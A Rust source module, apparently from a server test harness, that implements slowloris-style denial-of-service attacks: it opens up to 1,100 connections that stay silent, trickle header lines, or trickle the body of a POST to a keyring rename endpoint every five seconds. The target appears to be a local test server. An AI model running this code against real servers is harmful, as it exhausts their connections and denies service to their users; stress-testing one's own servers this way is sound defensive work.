//! Connections that say little or nothing: as many as the server takes, and again those that it closed.

use super::super::{ATTACK, line, world::Orders};
use std::{
    io::{ErrorKind, Read, Write},
    net::TcpStream,
    time::{Duration, Instant},
};

const LINES: usize = 1_100;
/// The pause between two bytes of those who are slow.
const DRIP: Duration = Duration::from_secs(5);
/// The pause between two looks at which connections are gone.
const LOOK: Duration = Duration::from_millis(50);

/// Opens connections and says nothing.
pub fn silent(orders: &Orders) {
    hold(orders, "", "");
}

/// Begins a request, and sends a line of its head now and then.
pub fn slow_heads(orders: &Orders) {
    hold(orders, "GET / HTTP/1.1\r\nhost: localhost\r\n", "x-more: 1\r\n");
}

/// Begins a request with a body, and sends a byte of it now and then.
pub fn slow_bodies(orders: &Orders) {
    let more = "content-type: application/json\r\ncontent-length: 60000\r\n\r\n{";
    let first = line::head(orders.port, "POST", "/api/keyring/devices/rename", &orders.attacker.cookie, more);
    hold(orders, &first, " ");
}

fn hold(orders: &Orders, first: &str, drip: &str) {
    let end = Instant::now() + ATTACK;
    let mut lines: Vec<(TcpStream, Instant)> = Vec::new();
    while Instant::now() < end {
        lines.retain_mut(|(stream, dripped)| {
            if !drip.is_empty() && dripped.elapsed() > DRIP {
                *dripped = Instant::now();
                if stream.write_all(drip.as_bytes()).is_err() {
                    return false;
                }
            }
            let mut answer = [0; 512];
            matches!(stream.read(&mut answer), Err(error) if error.kind() == ErrorKind::WouldBlock)
        });
        while lines.len() < LINES && Instant::now() < end {
            let Ok(mut stream) = line::connect(orders.attacker.from, orders.port) else { break };
            if stream.write_all(first.as_bytes()).is_ok() && stream.set_nonblocking(true).is_ok() {
                lines.push((stream, Instant::now()));
            }
        }
        std::thread::sleep(LOOK);
    }
}
